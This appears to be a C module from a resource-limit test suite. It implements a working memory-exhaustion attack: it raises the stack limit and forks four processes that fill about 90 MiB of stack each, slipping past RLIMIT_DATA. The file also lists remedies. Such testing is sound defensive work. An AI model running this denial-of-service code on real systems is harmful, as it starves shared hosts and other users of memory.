// SPDX-License-Identifier: MIT
/*
 * main-stacks.c - a memory bomb that no limit on data sees.
 *
 * Goal: more memory than the budget.
 * Means: RLIMIT_DATA counts what is private and writable, but not the stack, which has a limit of
 * its own; a soft one of 8 MiB, as most systems have it, is the program's to raise. Four processes
 * with 90 MiB of main stack each: below the room that the kernel leaves under any stack.
 */
#include "attacks/attack.h"

#include <signal.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

enum { CHILDREN = 4, FRAMES = 90, FRAME = 1 << 20 };

static int raise_limit(int resource)
{
	struct rlimit is;

	if (getrlimit(resource, &is))
		return -1;
	is.rlim_cur = is.rlim_max;
	return setrlimit(resource, &is);
}

/* Each call lays a frame on the stack, and writes to all of it. The last one waits to be killed. */
static void descend(int frames)
{
	volatile char frame[FRAME];

	memset((char *)frame, 'x', sizeof(frame));
	if (frames > 1)
		descend(frames - 1);
	else
		pause();
	frame[0] = 'y'; /* it is needed to the end: no call is a jump */
}

static enum claim run(const struct brief *b)
{
	pid_t child[CHILDREN];
	enum claim claim;
	int n = 0;

	attempting(b);
	if (raise_limit(RLIMIT_STACK))
		return denied("setrlimit");
	while (n < CHILDREN && (child[n] = fork()) >= 0)
		if (child[n++] == 0) {
			descend(FRAMES);
			_exit(0);
		}
	claim = n < CHILDREN ? denied("fork") : CLAIM_DONE;
	for (int ms = 0; ms < 500 && claim == CLAIM_DONE; ms += 10, usleep(10000))
		if (waitpid(-1, NULL, WNOHANG) > 0)
			claim = denied("the stack"); /* it met its end */
	if (claim == CLAIM_DONE)
		claim = hold();
	for (int i = 0; i < n; i++)
		kill(child[i], SIGKILL);
	return claim;
}

const struct attack attack = {
	.effect = "more memory than the budget",
	.means = "four processes with 90 MiB of main stack: RLIMIT_DATA does not count it",
	.oracle = "usage:memory",
	.attack_id = "T1499.001,CWE-770",
	.remedy = "a hard RLIMIT_STACK; count the memory of all processes; a memory cgroup",
	.refs = (const char *const[]){ "setrlimit(2): RLIMIT_DATA, RLIMIT_STACK", NULL },
	.run = run,
};
